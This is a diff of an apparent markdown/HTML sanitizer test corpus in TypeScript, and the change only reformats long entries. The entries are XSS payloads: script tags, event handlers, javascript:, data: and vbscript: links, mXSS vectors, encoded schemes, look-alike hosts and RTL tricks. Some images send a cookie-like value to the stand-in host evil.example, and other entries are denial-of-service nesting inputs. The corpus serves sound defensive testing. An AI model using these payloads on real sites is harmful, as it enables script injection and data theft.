@@ -24,7 +24,11 @@ type Entry = [name: string, source: string, expectText?: string];
 
 const HTML_AND_EVENT_HANDLERS: Entry[] = [
   ['script tag', SCRIPT, '<script>'],
-  ['script tag, upper case, remote src', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', '<SCRIPT'],
+  [
+    'script tag, upper case, remote src',
+    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+    '<SCRIPT',
+  ],
   ['script with data: src', '<script src="data:text/javascript,__pwned()"></script>'],
   ['img onerror', '<img src=x onerror=__pwned()>', '<img src=x onerror=__pwned()>'],
   ['remote img with onerror', '<img src="https://evil.example/x.png" onerror="__pwned()">'],
@@ -42,11 +46,17 @@ const HTML_AND_EVENT_HANDLERS: Entry[] = [
   ['select autofocus onfocus', '<select autofocus onfocus=__pwned()>'],
   ['textarea autofocus onfocus', '<textarea autofocus onfocus=__pwned()>'],
   ['details ontoggle', '<details open ontoggle=__pwned()>'],
-  ['popover onbeforetoggle', '<div popover id=p onbeforetoggle=__pwned()>x</div><button popovertarget=p>'],
+  [
+    'popover onbeforetoggle',
+    '<div popover id=p onbeforetoggle=__pwned()>x</div><button popovertarget=p>',
+  ],
   ['video source onerror', '<video><source onerror=__pwned()></video>'],
   ['audio onerror', '<audio src=x onerror=__pwned()>'],
   ['marquee onstart', '<marquee onstart=__pwned()>x</marquee>'],
-  ['animation start handler', '<style>@keyframes k{}</style><div style="animation-name:k" onanimationstart="__pwned()">'],
+  [
+    'animation start handler',
+    '<style>@keyframes k{}</style><div style="animation-name:k" onanimationstart="__pwned()">',
+  ],
   ['pointer handler', '<p onpointerenter=__pwned()>x</p>'],
   ['custom element handler', '<x-foo onclick=__pwned()>x</x-foo>'],
   ['inline style url(javascript:)', '<div style="background:url(javascript:__pwned())">x</div>'],
@@ -58,8 +68,14 @@ const SVG_MATH_AND_EMBEDS: Entry[] = [
   ['svg onload', '<svg onload=__pwned()>', '<svg onload=__pwned()>'],
   ['svg script', `<svg><script>__pwned()</script></svg>`],
   ['svg animate onbegin', '<svg><animate onbegin=__pwned() attributeName=x dur=1s>'],
-  ['svg xlink:href javascript:', '<svg><a xlink:href="javascript:__pwned()"><text x=20 y=20>x</text></a></svg>'],
-  ['svg foreignObject iframe', '<svg><foreignObject><iframe srcdoc="<script>parent.__pwned()</script>">'],
+  [
+    'svg xlink:href javascript:',
+    '<svg><a xlink:href="javascript:__pwned()"><text x=20 y=20>x</text></a></svg>',
+  ],
+  [
+    'svg foreignObject iframe',
+    '<svg><foreignObject><iframe srcdoc="<script>parent.__pwned()</script>">',
+  ],
   ['math mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=__pwned()>'],
   ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=__pwned()>">'],
   ['iframe javascript:', '<iframe src="javascript:parent.__pwned()"></iframe>'],
@@ -91,7 +107,10 @@ const MARKDOWN_LINKS: Entry[] = [
   ['link with entity tab', '[click](java&#x09;script:__pwned())'],
   ['link with hex entity', '[click](jav&#x61;script:__pwned())'],
   ['link with decimal entity', '[click](jav&#97;script:__pwned())'],
-  ['link fully entity-encoded', '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__pwned())'],
+  [
+    'link fully entity-encoded',
+    '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__pwned())',
+  ],
   ['link &colon;', '[click](javascript&colon;__pwned())'],
   ['link percent-encoded scheme', '[click](java%73cript:__pwned())'],
   ['link with control character', '[click](\u0001javascript:__pwned())'],
@@ -102,7 +121,10 @@ const MARKDOWN_LINKS: Entry[] = [
   ['link backslash-escaped', '[click](javascript\\:__pwned())'],
   ['link vbscript:', '[click](vbscript:msgbox(1))'],
   ['link VBScript:', '[click](VBScript:__pwned())'],
-  ['link data:text/html base64', '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZCgpPC9zY3JpcHQ+)'],
+  [
+    'link data:text/html base64',
+    '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZCgpPC9zY3JpcHQ+)',
+  ],
   ['link data:text/html', '[click](data:text/html,<script>__pwned()</script>)'],
   ['link file:', '[click](file:///etc/passwd)'],
   ['link protocol-relative', '[click](//evil.example/steal)'],
@@ -117,7 +139,11 @@ const MARKDOWN_LINKS: Entry[] = [
   ['link with RTL override', '[click](https://evil.example\u202e/gpj.exe)'],
   ['link text is another URL', '[https://good.example](https://evil.example/)', 'evil.example'],
   ['link to a look-alike host', '[apple](https://\u0430pple.com/)', 'xn--pple-43d.com'],
-  ['link text is HTML', '[<img src=x onerror=__pwned()>](https://ok.example/)', '<img src=x onerror=__pwned()>'],
+  [
+    'link text is HTML',
+    '[<img src=x onerror=__pwned()>](https://ok.example/)',
+    '<img src=x onerror=__pwned()>',
+  ],
   ['link text is a script, target javascript:', `[${SCRIPT}](javascript:__pwned())`, '<script>'],
   ['link title with handler', '[x](https://ok.example/ "onmouseover=__pwned()")'],
   ['link with quotes in URL', '[x](https://ok.example/"onmouseover="__pwned())'],
@@ -132,7 +158,11 @@ const MARKDOWN_LINKS: Entry[] = [
 
 const IMAGES: Entry[] = [
   ['image javascript:', '![x](javascript:__pwned())'],
-  ['remote image with a query string', '![x](https://evil.example/p.png?cookie=secret)', 'evil.example'],
+  [
+    'remote image with a query string',
+    '![x](https://evil.example/p.png?cookie=secret)',
+    'evil.example',
+  ],
   ['remote image over http', '![x](http://evil.example/p.png)'],
   ['protocol-relative image', '![x](//evil.example/p.png)'],
   ['svg data: image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cGFyZW50Ll9fcHduZWQoKT4=)'],
@@ -145,7 +175,10 @@ const IMAGES: Entry[] = [
   ['image allowlisted host over http', `![x](http://${ALLOWED}/a.png)`],
   ['image allowlisted host in fragment', `![x](https://evil.example/#${ALLOWED})`],
   ['image allowlisted host in query', `![x](https://evil.example/a.png?host=${ALLOWED})`],
-  ['image allowlisted host upper-case prefix', `![x](https://${ALLOWED.toUpperCase()}.evil.example/a.png)`],
+  [
+    'image allowlisted host upper-case prefix',
+    `![x](https://${ALLOWED.toUpperCase()}.evil.example/a.png)`,
+  ],
   ['image allowlisted host on another port', `![x](https://${ALLOWED}:8443/a.png)`],
   ['image in a link to javascript:', '[![x](https://evil.example/a.png)](javascript:__pwned())'],
   ['image with title', '![x](https://evil.example/a.png "t")'],
@@ -168,7 +201,10 @@ const ENCODINGS_AND_BROKEN_HTML: Entry[] = [
   ['closing style', `</style>${SCRIPT}`],
   ['attribute breakout', `"><script>__pwned()</script>`],
   ['single-quote breakout', "'><img src=x onerror=__pwned()>"],
-  ['xml namespace script', '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">__pwned()</x:script>'],
+  [
+    'xml namespace script',
+    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">__pwned()</x:script>',
+  ],
   ['NUL inside a tag name', '<scr\u0000ipt>__pwned()</script>'],
   ['fullwidth angle brackets', '＜script＞__pwned()＜/script＞'],
 ];
@@ -184,8 +220,14 @@ const TEMPLATES_AND_UNICODE: Entry[] = [
   ['RTL override in text', 'invoice\u202egnp.exe', '\u202e'],
   ['RTL override in link text', '[safe\u202e](https://evil.example/)', 'evil.example'],
   ['zero-width space in host', '[x](https://evil\u200b.example/)'],
-  ['script in table, heading, quote, list', `| ${SCRIPT} |\n|---|\n| [x](javascript:__pwned()) |\n\n# ${SCRIPT}\n> ${SCRIPT}\n- ${SCRIPT}`],
-  ['hostile links in a table', '| [x](javascript:__pwned()) |\n|---|\n| ![y](https://evil.example/a.png) |'],
+  [
+    'script in table, heading, quote, list',
+    `| ${SCRIPT} |\n|---|\n| [x](javascript:__pwned()) |\n\n# ${SCRIPT}\n> ${SCRIPT}\n- ${SCRIPT}`,
+  ],
+  [
+    'hostile links in a table',
+    '| [x](javascript:__pwned()) |\n|---|\n| ![y](https://evil.example/a.png) |',
+  ],
   ['hostile link in a heading', '# [x](javascript:__pwned())'],
   ['data: link in a quote', '> [x](data:text/html,__pwned)'],
 ];
@@ -195,13 +237,25 @@ const LONG_AND_NESTED: Entry[] = [
   ['over-long input of links', '[x](javascript:__pwned())'.repeat(5_000)],
   ['200,000 characters', 'a'.repeat(200_000)],
   ['quotes nested 5,000 deep', `${'> '.repeat(5_000)}${SCRIPT}`],
-  ['lists nested 1,000 deep', Array.from({ length: 1_000 }, (_, level) => `${'  '.repeat(level)}- ${SCRIPT}`).join('\n')],
-  ['mixed quote and list nesting', Array.from({ length: 500 }, (_, level) => `${'> '.repeat(level)}- [x](javascript:__pwned())`).join('\n')],
+  [
+    'lists nested 1,000 deep',
+    Array.from({ length: 1_000 }, (_, level) => `${'  '.repeat(level)}- ${SCRIPT}`).join('\n'),
+  ],
+  [
+    'mixed quote and list nesting',
+    Array.from(
+      { length: 500 },
+      (_, level) => `${'> '.repeat(level)}- [x](javascript:__pwned())`,
+    ).join('\n'),
+  ],
   ['10,000 open brackets', `${'['.repeat(10_000)}](javascript:__pwned())`],
   ['50,000 asterisks', '*'.repeat(50_000)],
   ['emphasis nested 2,000 deep', `${'**'.repeat(2_000)}x${'**'.repeat(2_000)}`],
   ['2,000 remote images', '![x](https://evil.example/a.png)'.repeat(2_000)],
-  ['table 1,000 columns wide', `${'|a'.repeat(1_000)}|\n${'|-'.repeat(1_000)}|\n${'|![x](https://evil.example/a.png)'.repeat(1_000)}|`],
+  [
+    'table 1,000 columns wide',
+    `${'|a'.repeat(1_000)}|\n${'|-'.repeat(1_000)}|\n${'|![x](https://evil.example/a.png)'.repeat(1_000)}|`,
+  ],
   ['1,000 unclosed fences', '```\n'.repeat(1_000)],
   ['3,000 HTML links', '<a href=javascript:__pwned()>x</a>'.repeat(3_000)],
 ];
@@ -215,4 +269,6 @@ export const HOSTILE_CORPUS: readonly HostileInput[] = [
   ...ENCODINGS_AND_BROKEN_HTML,
   ...TEMPLATES_AND_UNICODE,
   ...LONG_AND_NESTED,
-].map(([name, source, expectText]) => (expectText === undefined ? { name, source } : { name, source, expectText }));
+].map(([name, source, expectText]) =>
+  expectText === undefined ? { name, source } : { name, source, expectText },
+);
